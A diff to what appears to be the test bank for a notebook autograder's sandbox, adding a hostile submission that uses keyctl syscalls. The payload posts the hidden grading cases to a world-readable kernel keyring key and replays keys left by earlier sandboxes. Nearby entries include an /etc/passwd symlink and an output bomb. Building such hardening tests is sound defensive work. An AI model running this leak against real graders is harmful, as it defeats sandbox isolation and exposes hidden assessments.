@@ -15,7 +15,9 @@ tricks on the judge's reports (a forged crash text, a signal from the hidden cas
 must survive from a careless student (a malformed timestamp received late, ``input()`` left in lab 5, names
 that are not UTF-8), nor what aims at the instructor's browser or the grader's memory rather than the sandbox
 (outputs and a written answer holding scripts, an image and links that run code, a widget; an output bomb of
-``BOMB_OUTPUTS`` outputs of ``BOMB_CHARS`` characters in every notebook).
+``BOMB_OUTPUTS`` outputs of ``BOMB_CHARS`` characters in every notebook). The keyring trick posts what it reads (the
+hidden cases' inputs, in a runner) in a key of its uid's kernel keyring that every uid may read, and replays a key
+posted earlier: every later sandbox of the slot would find it.
 """
 
 from __future__ import annotations
@@ -298,6 +300,34 @@ if _get_ipython() is not None:
             _display(_HTML("<p>" + "B" * {BOMB_CHARS} + "</p>"))
 """
 
+KEYRING = """
+import ctypes as _ctypes
+import errno as _errno
+import platform as _platform
+_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[_platform.machine()]
+_USER_KEYRING, _SETPERM, _SEARCH, _READ = _ctypes.c_long(-4), 5, 10, 11
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = _ctypes.c_long
+_name = f"workbook-keyring-{_MARKER}".encode()
+_key = _libc.syscall(_KEYCTL, _SEARCH, _USER_KEYRING, b"user", _name, _ctypes.c_long(0))
+if _key >= 0:
+    _buffer = _ctypes.create_string_buffer(1 << 15)
+    _size = _libc.syscall(_KEYCTL, _READ, _ctypes.c_long(_key), _buffer, _ctypes.c_long(len(_buffer)))
+    _report("replayed a key: " + _buffer.raw[: max(_size, 0)].decode("utf-8", "replace"))
+else:
+    _report(f"found no key: {_errno.errorcode.get(_ctypes.get_errno())}")
+if _sys.argv and _sys.argv[0].endswith("runner.py"):
+    _payload = _Path(_sys.argv[1]).read_bytes()[:30000]  # the cases, hidden ones among them, with their inputs
+else:
+    _payload = f"posted at import in {_os.getcwd()}".encode()
+_posted = _libc.syscall(_ADD_KEY, b"user", _name, _payload, _ctypes.c_long(len(_payload)), _USER_KEYRING)
+if _posted >= 0:
+    _libc.syscall(_KEYCTL, _SETPERM, _ctypes.c_long(_posted), _ctypes.c_long(0x3F3F3F3F))  # every uid may read it
+    _report(f"posted key {_posted} of {len(_payload)} bytes")
+else:
+    _report(f"could not post: {_errno.errorcode.get(_ctypes.get_errno())}")
+"""
+
 COMPLETE, BLANK, PARTIAL = [8] * 5, [0] * 5, [8, 8, 0, 0, 0]
 NOT_UTF8 = "03_budget_projection-\udcff\udcfe.ipynb"
 """A notebook name made by a script or another system: the bytes ``\\xff\\xfe`` are not UTF-8 (``os`` gives them as
@@ -356,6 +386,7 @@ BANK = (
     Submission("s21_not_utf8_link", "blank", None, links={f"compaction_lab/{NOT_UTF8[:-6]}.py": "/etc/passwd"}),
     Submission("s22_active_content", "complete", COMPLETE, ACTIVE_CONTENT, answer=ACTIVE_ANSWER),
     Submission("s23_output_bomb", "complete", COMPLETE, OUTPUT_BOMB),
+    Submission("s24_keyring", "blank", BLANK, KEYRING, effect="keyring"),
 )
 """Graded in this order (by student id): both controls come after the tricks that would change later students."""
 
